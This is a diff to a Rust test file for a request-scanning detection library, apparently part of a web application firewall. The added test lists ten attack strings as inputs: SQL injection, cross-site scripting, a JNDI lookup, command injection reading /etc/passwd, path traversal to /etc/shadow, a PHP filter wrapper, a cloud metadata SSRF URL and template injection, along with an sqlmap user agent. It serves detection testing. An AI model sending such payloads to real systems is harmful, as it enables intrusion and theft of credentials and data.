@@ -1,6 +1,8 @@
 //! What single requests and rejects are taken for.
 
-use portcullis_detection::{MAX_TEXT_BYTES, ObjectSeen, RuleSet, Scan};
+use portcullis_detection::{
+    BLOCK_LEVEL, Category, MAX_TEXT_BYTES, ObjectSeen, RuleSet, Scan, Verdict,
+};
 use portcullis_ingest::{Field, Origin, Reject, RejectReason, Request, Untrusted};
 
 use crate::sent::{builtin, rules};
@@ -18,7 +20,7 @@ fn the_examples_of_the_rules_compiled_in_hold() {
 }
 
 /// A query or path, judged by the rules compiled in.
-fn judged(path: &str, query: &str) -> portcullis_detection::Verdict {
+fn judged(path: &str, query: &str) -> Verdict {
     builtin().classify(&Request {
         path: Some(Untrusted::new(path.as_bytes())),
         query: Some(Untrusted::new(query.as_bytes())),
@@ -211,6 +213,41 @@ fn of_very_many_parameters_the_last_are_searched_together_and_counted() {
     let many = judged(&query(1_000));
     assert!(many.flagged());
     assert_eq!(many.truncated_fields(), 1);
+}
+
+#[test]
+fn what_is_beyond_doubt_is_searched_no_further_and_counted() {
+    const ATTACKS: [&str; 10] = [
+        "1' union all select null,version()-- -",
+        "'; drop table users--",
+        "<script>alert(1)</script>",
+        "\"><img src=x onerror=alert(1)>",
+        "${jndi:ldap://192.0.2.1/a}",
+        ";cat /etc/passwd",
+        "../../../../etc/shadow",
+        "php://filter/convert.base64-encode/resource=index",
+        "http://169.254.169.254/latest/meta-data/",
+        "{{7*7}}",
+    ];
+    let judged_with = |attacks: usize| {
+        let query: Vec<String> = ATTACKS[..attacks].iter().map(|one| format!("a={one}")).collect();
+        let query = query.join("&");
+        builtin().classify(&Request {
+            query: Some(Untrusted::new(query.as_bytes())),
+            user_agent: Some(Untrusted::new(b"sqlmap/1.7")),
+            ..Request::default()
+        })
+    };
+    let blocking = |verdict: &Verdict| {
+        let rules = verdict.hits().iter().map(|hit| &builtin().rules()[hit.rule]);
+        rules.filter(|rule| rule.points() >= BLOCK_LEVEL).count()
+    };
+    let few = judged_with(1);
+    assert!(few.categories().contains(&Category::ScannerUa), "{few:?}");
+    assert_eq!(few.truncated_fields(), 0);
+    let many = judged_with(ATTACKS.len());
+    assert!(!many.categories().contains(&Category::ScannerUa), "{many:?}");
+    assert_eq!((blocking(&many), many.truncated_fields()), (12, 2));
 }
 
 #[test]
